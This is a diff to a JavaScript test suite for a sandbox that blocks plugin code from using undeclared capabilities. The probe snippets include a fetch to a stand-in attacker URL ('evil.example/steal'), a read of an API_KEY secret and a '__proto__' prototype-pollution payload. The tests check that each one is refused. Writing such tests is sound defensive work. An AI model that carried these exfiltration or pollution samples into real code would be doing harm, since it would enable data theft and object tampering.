@@ -79,6 +79,10 @@ describe('S-09 undeclared capability', () => {
     }`,
     'probe/uncaught': `async (input, ctx) => ({ output: await ctx.secrets.get('API_KEY') })`,
     'probe/other-host': `async (input, ctx) => ({ output: await ctx.http.fetch('https://evil.example/steal') })`,
+    'probe/proto-args': `async (input, ctx) => {
+      try { await ctx.kv.set('k', JSON.parse('{"__proto__": {"polluted": true}}')); return { output: 'sent' }; }
+      catch (error) { return { output: error.message }; }
+    }`,
   });
 
   it('throws capability_not_declared with a fix and never calls the host', async () => {
@@ -97,6 +101,13 @@ describe('S-09 undeclared capability', () => {
     const error = errorOf(await pool.run(request(probe, 'probe/uncaught', { capabilities: ['kv'], onCapabilityCall: host.onCapabilityCall })));
     expect(error.code).toBe('capability_not_declared');
     expect(error.message).toMatch(/^capability_not_declared: secrets/);
+    expect(host.calls).toEqual([]);
+  });
+
+  it('refuses capability arguments carrying a "__proto__" key before they reach the host', async () => {
+    const host = recorder();
+    const result = await pool.run(request(probe, 'probe/proto-args', { capabilities: ['kv'], onCapabilityCall: host.onCapabilityCall }));
+    expect(expectOk(result).output).toMatch(/^capability_failed: the arguments of kv.set were refused/);
     expect(host.calls).toEqual([]);
   });
 
